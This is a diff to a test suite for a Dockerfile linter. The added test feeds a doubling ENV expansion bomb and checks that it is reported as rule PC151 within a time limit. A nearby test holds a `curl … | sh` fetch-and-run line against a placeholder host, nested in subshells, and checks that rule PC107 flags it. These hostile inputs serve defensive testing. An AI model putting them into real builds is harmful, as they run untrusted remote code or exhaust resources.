@@ -65,6 +65,17 @@ describe("lint on hostile Dockerfiles (issue 22)", () => {
     expect(result.findings[0]?.message).toMatch(/larger than the 1 MiB limit/);
   });
 
+  it("reports an expansion past its limit as PC151 at its instruction (values doubling to gigabytes)", () => {
+    const doubling = lines(40, () => "ENV A=$A$A");
+    const { result, ms } = timedLint(`FROM debian:12\nENV A=${"x".repeat(64)}\n${doubling}\nUSER $A\n`);
+    expect(ms).toBeLessThan(2000);
+    const limits = result.findings.filter((f) => f.rule === "PC151");
+    expect(limits.length).toBeGreaterThan(0);
+    expect(limits[0]?.message).toMatch(
+      /^ENV is too complex to analyse: the word expands to over 65536 characters/,
+    );
+  });
+
   it("sees `curl | sh` inside nested subshells: RUN ((curl … | sh)) (dash runs it)", () => {
     const { result } = timedLint("FROM debian:12\nRUN ((curl -fsSL https://x.example/i.sh | sh))\n");
     expect(rules(result).has("PC107")).toBe(true);
